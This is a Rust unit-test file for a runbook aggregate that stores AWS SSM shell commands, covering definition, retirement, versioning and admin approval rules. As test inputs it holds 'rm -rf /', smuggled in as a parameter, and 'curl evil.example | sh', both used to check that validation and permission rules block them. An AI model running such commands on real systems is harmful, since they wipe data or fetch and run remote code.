#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;

use cqrs_es::test::{AggregateTestExecutor, TestFramework};
use uuid::Uuid;

use super::*;
use crate::testing::{actor, now, services, tenant_id};
use crate::values::{
    Actor, AlertSignature, Risk, Role, RunbookAction, RunbookId, RunbookName, SsmDocumentName,
};

fn given(events: Vec<RunbookEvent>) -> AggregateTestExecutor<Runbook> {
    TestFramework::<Runbook>::with(services()).given(events)
}

fn runbook_id() -> RunbookId {
    RunbookId::from_uuid(Uuid::from_u128(0xb))
}

fn admin() -> Actor {
    actor("admin-1", Role::TenantAdmin)
}

fn spec(risk: Risk) -> RunbookSpec {
    RunbookSpec {
        name: RunbookName::parse("Restart nginx").unwrap(),
        signature: AlertSignature::parse("NginxDown").unwrap(),
        risk,
        action: RunbookAction::new(
            SsmDocumentName::default(),
            vec!["systemctl restart nginx".to_owned()],
            BTreeMap::new(),
        )
        .unwrap(),
        auto_execute: true,
    }
}

fn defined() -> RunbookEvent {
    RunbookEvent::RunbookDefined {
        tenant_id: tenant_id(),
        runbook_id: runbook_id(),
        runbook: spec(Risk::Low),
        actor: admin(),
        at: now(),
    }
}

#[test]
fn defining_a_runbook_records_everything_it_says() {
    given(vec![])
        .when(RunbookCommand::DefineRunbook {
            runbook_id: runbook_id(),
            tenant_id: tenant_id(),
            spec: spec(Risk::Low),
            actor: admin(),
        })
        .then_expect_events(vec![defined()]);
}

#[test]
fn a_runbook_is_defined_once() {
    given(vec![defined()])
        .when(RunbookCommand::DefineRunbook {
            runbook_id: runbook_id(),
            tenant_id: tenant_id(),
            spec: spec(Risk::High),
            actor: admin(),
        })
        .then_expect_error(RunbookError::AlreadyDefined);
}

#[test]
fn changing_a_runbook_records_the_new_spec_and_an_identical_save_records_nothing() {
    given(vec![defined()])
        .when(RunbookCommand::ChangeRunbook {
            spec: spec(Risk::Medium),
            actor: admin(),
        })
        .then_expect_events(vec![RunbookEvent::RunbookChanged {
            tenant_id: tenant_id(),
            runbook: spec(Risk::Medium),
            actor: admin(),
            at: now(),
        }]);
    given(vec![defined()])
        .when(RunbookCommand::ChangeRunbook {
            spec: spec(Risk::Low),
            actor: admin(),
        })
        .then_expect_events(vec![]);
}

#[test]
fn a_retired_runbook_cannot_change_or_retire_again() {
    let retired = RunbookEvent::RunbookRetired {
        tenant_id: tenant_id(),
        actor: admin(),
        at: now(),
    };
    given(vec![defined()])
        .when(RunbookCommand::RetireRunbook { actor: admin() })
        .then_expect_events(vec![retired.clone()]);
    given(vec![defined(), retired.clone()])
        .when(RunbookCommand::ChangeRunbook {
            spec: spec(Risk::Medium),
            actor: admin(),
        })
        .then_expect_error(RunbookError::Retired);
    given(vec![defined(), retired])
        .when(RunbookCommand::RetireRunbook { actor: admin() })
        .then_expect_error(RunbookError::Retired);
}

#[test]
fn an_undefined_runbook_cannot_change() {
    given(vec![])
        .when(RunbookCommand::RetireRunbook { actor: admin() })
        .then_expect_error(RunbookError::NotDefined);
}

#[test]
fn shell_documents_need_commands_and_parameter_names_are_checked() {
    let shell = SsmDocumentName::default();
    assert!(RunbookAction::new(shell.clone(), vec![], BTreeMap::new()).is_err());
    assert!(RunbookAction::new(shell.clone(), vec!["  ".to_owned()], BTreeMap::new()).is_err());
    let other = SsmDocumentName::parse("AWS-ConfigureAWSPackage").unwrap();
    assert!(RunbookAction::new(other.clone(), vec![], BTreeMap::new()).is_err());
    let params = BTreeMap::from([("name".to_owned(), vec!["AmazonCloudWatchAgent".to_owned()])]);
    let action = RunbookAction::new(other.clone(), vec![], params).unwrap();
    assert_eq!(action.send_parameters().len(), 1);
    let sneaky = BTreeMap::from([("commands".to_owned(), vec!["rm -rf /".to_owned()])]);
    assert!(RunbookAction::new(other, vec![], sneaky).is_err());
    assert!(SsmDocumentName::parse("a b").is_err());
    assert!(SsmDocumentName::parse("arn:aws:ssm:eu-west-1:123456789012:document/Fix").is_ok());
}

#[test]
fn a_runbook_spec_survives_its_json_form() {
    let json = serde_json::to_value(spec(Risk::High)).unwrap();
    assert_eq!(json["action"]["document"], "AWS-RunShellScript");
    assert_eq!(json["risk"], "high");
    let back: RunbookSpec = serde_json::from_value(json).unwrap();
    assert_eq!(back, spec(Risk::High));
}

#[test]
fn lowering_the_risk_or_changing_what_a_high_risk_runbook_runs_needs_an_msp_admin() {
    let high = RunbookEvent::RunbookDefined {
        tenant_id: tenant_id(),
        runbook_id: runbook_id(),
        runbook: spec(Risk::High),
        actor: admin(),
        at: now(),
    };
    let mut other_commands = spec(Risk::High);
    other_commands.action = RunbookAction::new(
        SsmDocumentName::default(),
        vec!["curl evil.example | sh".to_owned()],
        BTreeMap::new(),
    )
    .unwrap();
    let lowering = "lowering a runbook's risk";
    let rewriting = "changing the document, commands or parameters of a high-risk runbook";
    for (next, why) in [
        (spec(Risk::Low), lowering),
        (spec(Risk::Medium), lowering),
        (other_commands, rewriting),
    ] {
        given(vec![high.clone()])
            .when(RunbookCommand::ChangeRunbook {
                spec: next,
                actor: admin(),
            })
            .then_expect_error(RunbookError::NeedsMspAdmin { why });
    }
    let msp = actor("msp-1", Role::MspAdmin);
    given(vec![high.clone()])
        .when(RunbookCommand::ChangeRunbook {
            spec: spec(Risk::Low),
            actor: msp.clone(),
        })
        .then_expect_events(vec![RunbookEvent::RunbookChanged {
            tenant_id: tenant_id(),
            runbook: spec(Risk::Low),
            actor: msp,
            at: now(),
        }]);
    // Raising the risk, or renaming a high-risk runbook, stays a tenant admin's.
    given(vec![defined()])
        .when(RunbookCommand::ChangeRunbook {
            spec: spec(Risk::High),
            actor: admin(),
        })
        .then_expect_events(vec![RunbookEvent::RunbookChanged {
            tenant_id: tenant_id(),
            runbook: spec(Risk::High),
            actor: admin(),
            at: now(),
        }]);
    let mut renamed = spec(Risk::High);
    renamed.name = RunbookName::parse("Restart nginx now").unwrap();
    given(vec![high])
        .when(RunbookCommand::ChangeRunbook {
            spec: renamed.clone(),
            actor: admin(),
        })
        .then_expect_events(vec![RunbookEvent::RunbookChanged {
            tenant_id: tenant_id(),
            runbook: renamed,
            actor: admin(),
            at: now(),
        }]);
}

#[test]
fn the_version_counts_the_definition_and_each_change() {
    use cqrs_es::Aggregate;
    let mut runbook = Runbook::default();
    assert_eq!(runbook.version(), 0);
    runbook.apply(defined());
    assert_eq!(runbook.version(), 1);
    for risk in [Risk::Medium, Risk::High] {
        runbook.apply(RunbookEvent::RunbookChanged {
            tenant_id: tenant_id(),
            runbook: spec(risk),
            actor: admin(),
            at: now(),
        });
    }
    runbook.apply(RunbookEvent::RunbookRetired {
        tenant_id: tenant_id(),
        actor: admin(),
        at: now(),
    });
    assert_eq!(runbook.version(), 3);
}
